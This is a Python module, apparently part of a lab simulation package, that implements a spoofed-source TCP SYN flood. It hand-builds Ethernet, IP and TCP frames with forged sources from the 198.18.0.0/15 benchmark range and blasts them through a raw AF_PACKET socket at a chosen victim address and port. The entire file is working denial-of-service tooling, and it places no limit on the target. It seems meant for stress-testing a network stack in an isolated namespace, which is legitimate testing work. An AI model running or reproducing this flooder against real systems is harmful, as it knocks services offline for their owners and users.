"""A spoofed-source SYN flood on a Linux interface (the attacker of the seed article).

    ip netns exec toe python -m toe.sim.syn_flood --iface toe0 --dst 10.0.0.2 \\
        --dst-mac 02:00:00:00:00:02 --port 80 --seconds 30 [--rate 20000]

Frames are built once (distinct random sources from 198.18.0.0/15, RFC 2544's benchmark
range, so the SYN-ACKs go to the gateway, which drops them) and written to an
``AF_PACKET`` socket in a loop, as fast as one Python process can, or paced to
``--rate`` SYNs per second.  SIGTERM or the time limit ends the run; the last line on
stdout is JSON: SYNs sent, seconds, send errors.
"""

import argparse
import json
import random
import signal
import socket
import struct
import sys
import time

__all__ = ["syn_frames", "main"]


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_frames(count: int, dst: str, dst_mac: str, src_mac: str, port: int,
               seed: int = 1) -> list[bytes]:
    """``count`` SYN frames (MSS 1460) from distinct spoofed sources in 198.18.0.0/15."""
    rng = random.Random(seed)
    dst_ip = socket.inet_aton(dst)
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) \
        + b"\x08\x00"
    frames = []
    for src in rng.sample(range(1 << 17), count):
        src_ip = struct.pack("!I", 0xC612_0000 | src)  # 198.18.0.0 + src
        tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port,
                          rng.getrandbits(32), 0, 6 << 4, 0x02, 64240, 0, 0)
        tcp += b"\x02\x04\x05\xb4"  # MSS 1460
        pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", _checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16),
                         0x4000, 64, 6, 0, src_ip, dst_ip)
        ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
        frames.append(eth + ip + tcp)
    return frames


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--iface", required=True)
    parser.add_argument("--dst", required=True, help="the victim's IPv4 address")
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--rate", type=float, default=0.0, help="SYNs per second (0: max)")
    parser.add_argument("--sources", type=int, default=16384)
    args = parser.parse_args(argv)

    with open(f"/sys/class/net/{args.iface}/address") as f:
        src_mac = f.read().strip()
    frames = syn_frames(args.sources, args.dst, args.dst_mac, src_mac, args.port)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    stop = False

    def on_term(*_: object) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    print("flooding", flush=True)
    sent = errors = 0
    started = time.monotonic()
    deadline = started + args.seconds
    batch = 64
    send = sock.send
    n = len(frames)
    while not stop:
        now = time.monotonic()
        if now >= deadline:
            break
        if args.rate and sent >= (now - started) * args.rate:
            time.sleep(min(0.001, batch / args.rate))
            continue
        for i in range(sent, sent + batch):
            try:
                send(frames[i % n])
            except OSError:  # ENOBUFS: the device queue is full
                errors += 1
        sent += batch
    seconds = time.monotonic() - started
    sock.close()
    print(json.dumps({"sent": sent - errors, "errors": errors, "seconds": round(seconds, 3),
                      "syns_per_second": round((sent - errors) / seconds)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
